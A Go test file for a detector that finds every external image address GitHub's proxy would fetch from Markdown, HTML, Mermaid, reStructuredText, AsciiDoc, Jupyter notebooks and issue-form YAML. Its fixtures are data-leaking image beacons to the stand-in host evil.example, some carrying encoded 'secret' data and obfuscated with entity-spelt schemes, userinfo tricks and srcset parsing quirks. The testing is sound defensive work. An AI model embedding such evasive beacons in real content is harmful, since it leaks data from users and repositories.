package gfm

import (
	"slices"
	"strings"
	"testing"
)

// Fetched finds every image GitHub's proxy would fetch from another
// host, however the Markdown spells it, and nothing else.
func TestFetched(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		src  string
		want []string
	}{
		{"inline image", "see ![x](https://evil.example/p?d=c2VjcmV0)", []string{"https://evil.example/p?d=c2VjcmV0"}},
		{"image in angle brackets, over a line", "![x](\n<https://evil.example/a b>)", []string{"https://evil.example/a b"}},
		{"nested brackets in the alt text", "![a [b] c](https://evil.example/n)", []string{"https://evil.example/n"}},
		{"reference image", "![logo][l]\n\n[l]: https://evil.example/ref\n", []string{"https://evil.example/ref"}},
		{"collapsed reference", "![l][]\n\n[L]: //evil.example/c\n", []string{"//evil.example/c"}},
		{"html img", "<p>\n<img alt=x src=\"https://evil.example/h\">\n</p>\n", []string{"https://evil.example/h"}},
		{"inline html img", "text <img src='http://evil.example/i'> more", []string{"http://evil.example/i"}},
		{"picture sources", "<picture><source srcset=\"https://evil.example/1x.png 1x, https://evil.example/2x.png 2x\"><img src=/local.png></picture>",
			[]string{"https://evil.example/1x.png", "https://evil.example/2x.png"}},
		{"a srcset address holding a comma", "<img srcset=\"//img.shields.io,@evil.example/p 1x\">", []string{"//img.shields.io,@evil.example/p"}},
		{"srcset candidates apart by commas alone", "<img srcset=\"a.png 1x,https://evil.example/b 2x,,  https://evil.example/c,\">", []string{"https://evil.example/b", "https://evil.example/c"}},
		{"a srcset descriptor with a comma in parentheses", "<img srcset=\"a.png (x,y), https://evil.example/d\">", []string{"https://evil.example/d"}},
		{"an image inside an element whose text a tokenizer does not read as tags", "<noscript><img src=\"https://evil.example/n\"></noscript>\n\n<p><xmp><img src=//evil.example/x></xmp> <noembed><picture><source srcset=\"//evil.example/e\"></noembed></p>\n",
			[]string{"https://evil.example/n", "//evil.example/x", "//evil.example/e"}},
		{"video poster", "<video poster=\"https://evil.example/v.png\" src=\"https://evil.example/v.mp4\"></video>", []string{"https://evil.example/v.png", "https://evil.example/v.mp4"}},
		{"entity-spelt tab in the scheme", "<img src=\"ht&#9;tps://evil.example/t\">", []string{"ht\ttps://evil.example/t"}},
		{"upper-case scheme, no slashes", "![x](HTTP:evil.example/u)", []string{"HTTP:evil.example/u"}},
		{"backslashes", "<img src=\"\\\\evil.example/b\">", []string{"\\\\evil.example/b"}},
		{"inside a blockquote and a list", "> - ![x](https://evil.example/q)", []string{"https://evil.example/q"}},
		{"links are not fetched", "[docs](https://docs.example/) and https://bare.example/x", nil},
		{"relative images are the repository's", "![x](img/a.png) <img src=\"/b.png\">", nil},
		{"code is not rendered", "`![x](https://evil.example/code)`\n\n```\n<img src=https://evil.example/fence>\n```\n", nil},
		{"a mermaid diagram's image shape", "```mermaid\nflowchart TD\n  A@{ img: \"https://evil.example/m.png?d=1\", label: \"x\" }\n```\n", []string{"https://evil.example/m.png?d=1"}},
		{"a mermaid label's img spelt with entity codes", "```mermaid\ngraph LR\n  A[\"<img src='https#58;#47;#47;evil.example#47;m'>\"]\n  B[\"<img src='&#104;ttps&colon;&sol;&sol;evil.example/h'>\"]\n```\n", []string{"https://evil.example/m", "https://evil.example/h"}},
		{"a mermaid label's img", "~~~ Mermaid\ngraph LR\n  A[\"<img src='//evil.example/l.png'>\"]\n~~~\n", []string{"//evil.example/l.png"}},
		{"an entity-spelt colon in an image's address", "![x](https&#58;//evil.example/e) ![y](https&colon;//evil.example/n)", []string{"https://evil.example/e", "https://evil.example/n"}},
		{"a backslash-escaped colon", "![x](https\\://evil.example/b)", []string{"https://evil.example/b"}},
		{"an entity in a reference's address", "![x][r]\n\n[r]: https&#x3A;//evil.example/r\n", []string{"https://evil.example/r"}},
		{"escaped backslashes stay two", "![x](\\\\\\\\evil.example/d)", []string{"\\\\evil.example/d"}},
		{"an image in a footnote", "Text[^1].\n\n[^1]: ![x](https://evil.example/fn)\n", []string{"https://evil.example/fn"}},
		{"the same address once", "![a](https://evil.example/s) ![b](https://evil.example/s)", []string{"https://evil.example/s"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := Fetched([]byte(tc.src)); !slices.Equal(got, tc.want) {
				t.Errorf("Fetched = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestFetchedMarkup(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, src string
		want      []string
	}{
		{"rst image", ".. image:: https://evil.example/r.png\n   :alt: x\n", []string{"https://evil.example/r.png"}},
		{"rst figure", ".. figure:: http://evil.example/f.png\n", []string{"http://evil.example/f.png"}},
		{"rst substitution", ".. |logo| image:: https://evil.example/s.png\n", []string{"https://evil.example/s.png"}},
		{"asciidoc block image", "image::https://evil.example/a.png[alt]\n", []string{"https://evil.example/a.png"}},
		{"asciidoc inline image", "see image:https://evil.example/i.png[] here", []string{"https://evil.example/i.png"}},
		{"asciidoc imagesdir", ":imagesdir: https://evil.example/imgs\n\nimage::a.png[]\n", []string{"https://evil.example/imgs"}},
		{"asciidoc attribute in a target", ":leak: https://evil.example/d=c2VjcmV0\n\nimage::{leak}.png[]\nimage:{leak}/i.png[]\n", []string{"https://evil.example/d=c2VjcmV0.png", "https://evil.example/d=c2VjcmV0/i.png"}},
		{"asciidoc attribute in an attribute", ":host: evil.example\n:base: https://{host}/x\n:imagesdir: {base}\n\nimage::a.png[]\n", []string{"https://evil.example/x"}},
		{"asciidoc iconsdir", ":icons: image\n:iconsdir: https://evil.example/icons\n\nNOTE: read me\n", []string{"https://evil.example/icons"}},
		{"asciidoc attributes that reference each other", ":a: {b}\n:b: {a}\n\nimage::{a}[]\n", nil},
		{"asciidoc attribute past the bound", ":a: https://img.shields.io:" + strings.Repeat("x", 3000) + "@evil.example/\n\nimage::{a}[]\n", []string{"//asciidoc-attributes-too-long.invalid/"}},
		{"asciidoc target with character references", "image::https&#58;//evil.example/c[]\nimage:&#x2F;/evil.example/d[]\n", []string{"https://evil.example/c", "//evil.example/d"}},
		{"rst image address over lines", ".. image:: https://img.shields.io\n   @evil.example/x\n   :alt: badge\n\n.. |s| figure::\n   //evil.example\n   /y\n", []string{"https://img.shields.io@evil.example/x", "//evil.example/y", "https://img.shields.io", "//evil.example"}},
		{"relative", ".. image:: img/a.png\n\nimage::b.png[]\n", nil},
		{"a link", "`docs <https://docs.example/>`_\n", nil},
		{"rst raw html", ".. raw:: html\n\n   <img src=\"https://evil.example/raw\">\n", []string{"https://evil.example/raw"}},
		{"asciidoc passthrough", "pass:[<img src=//evil.example/p>]\n", []string{"//evil.example/p"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := FetchedMarkup([]byte(tc.src)); !slices.Equal(got, tc.want) {
				t.Errorf("FetchedMarkup = %q, want %q", got, tc.want)
			}
		})
	}
}

// FetchedAny takes every absolute address for an image: the markups it
// reads each have syntaxes of their own that show one.
func TestFetchedAny(t *testing.T) {
	t.Parallel()
	src := "!https://evil.example/t.png!\n[[http://evil.example/o]] {{//evil.example/c}}\n<img src=\"HTTPS:evil.example/h\"> img/local.png"
	want := []string{"https://evil.example/t.png!", "http://evil.example/o", "//evil.example/c", "HTTPS:evil.example/h"}
	if got := FetchedAny([]byte(src)); !slices.Equal(got, want) {
		t.Errorf("FetchedAny = %q, want %q", got, want)
	}
	// A character reference the markup passes to the page as it is.
	src = "!https&#58;&#47;&#47;evil.example/r!\n"
	if got := FetchedAny([]byte(src)); !slices.Contains(got, "https://evil.example/r!") {
		t.Errorf("FetchedAny(%q) = %q", src, got)
	}
}

// Host is the host a browser (or GitHub's proxy) reaches, whatever the
// address hides in front of it.
func TestHost(t *testing.T) {
	t.Parallel()
	for u, want := range map[string]string{
		"https://evil.example/p":               "evil.example",
		"HTTPS://Evil.Example:8443/p":          "evil.example",
		"https://github.com@evil.example/":     "evil.example",
		"https://evil.example\\@github.com/":   "evil.example",
		"https://evil.example#@github.com":     "evil.example",
		"https://evil.example?@github.com":     "evil.example",
		"//evil.example/x":                     "evil.example",
		"\\\\evil.example/x":                   "evil.example",
		"http:evil.example/x":                  "evil.example",
		"ht\ttps://evil.example/t":             "evil.example",
		"https://[::1]:80/x":                   "::1",
		"https://camo.githubusercontent.com/x": "camo.githubusercontent.com",
		"https://evil.example./x":              "evil.example",
	} {
		if got := Host(u); got != want {
			t.Errorf("Host(%q) = %q, want %q", u, got, want)
		}
	}
}

func TestFetchedNotebook(t *testing.T) {
	t.Parallel()
	nb := `{"cells": [
	 {"cell_type": "markdown", "source": ["# Results\n", "![plot](https://evil.example/m.png?d=1)\n"]},
	 {"cell_type": "code", "source": "print('![x](https://evil.example/code)')",
	  "outputs": [{"data": {"text/html": ["<img src=\"https://evil.example/h.png\">"], "text/plain": "![y](https://evil.example/plain)"}},
	              {"data": {"text/markdown": "![z](//evil.example/md)"}}]},
	 {"cell_type": "markdown", "source": "![a](img/local.png)"}
	], "nbformat": 4}`
	got := FetchedNotebook([]byte(nb))
	want := []string{"https://evil.example/m.png?d=1", "https://evil.example/h.png", "//evil.example/md"}
	if !slices.Equal(got, want) {
		t.Errorf("FetchedNotebook = %q, want %q", got, want)
	}
	// What planex cannot read as a notebook another reader may: every
	// address counts. Keys of another case are not a notebook's.
	for src, want := range map[string][]string{
		"[x](https://evil.example/not-json)":                                                              {"https://evil.example/not-json"},
		`{"cells": [], "x": NaN, "y": "https://evil.example/nan"}`:                                        {"https://evil.example/nan"},
		`{"worksheets": [{"cells": [{"html": "//evil.example/v3"}]}]}`:                                    {"//evil.example/v3"},
		`{"cells": [{"cell_type": "markdown", "source": "![a](//evil.example/c)"}], "Cells": []}`:         {"//evil.example/c"},
		`{"cells": [{"cell_type": "code", "Cell_Type": "markdown", "source": "![a](//evil.example/k)"}]}`: nil,
	} {
		if got := FetchedNotebook([]byte(src)); !slices.Equal(got, want) {
			t.Errorf("FetchedNotebook(%s) = %q, want %q", src, got, want)
		}
	}
}

func TestFetchedForm(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, src string
		want      []string
	}{
		{"markdown element", "body:\n  - type: markdown\n    attributes:\n      value: \"![x](https://evil.example/m)\"\n", []string{"https://evil.example/m"}},
		{"html in a description", "body:\n  - type: input\n    attributes:\n      description: <img src=//evil.example/d>\n", []string{"//evil.example/d"}},
		{"an anchor read once", "a: &x \"![x](https://evil.example/a)\"\nb: *x\n", []string{"https://evil.example/a"}},
		{"links", "contact_links:\n  - url: https://docs.example/\n    about: see https://docs.example/\n", nil},
		{"not YAML", "a: [\n![x](https://evil.example/n)\n", []string{"https://evil.example/n"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			if got := FetchedForm([]byte(tc.src)); !slices.Equal(got, tc.want) {
				t.Errorf("FetchedForm = %q, want %q", got, tc.want)
			}
		})
	}
}
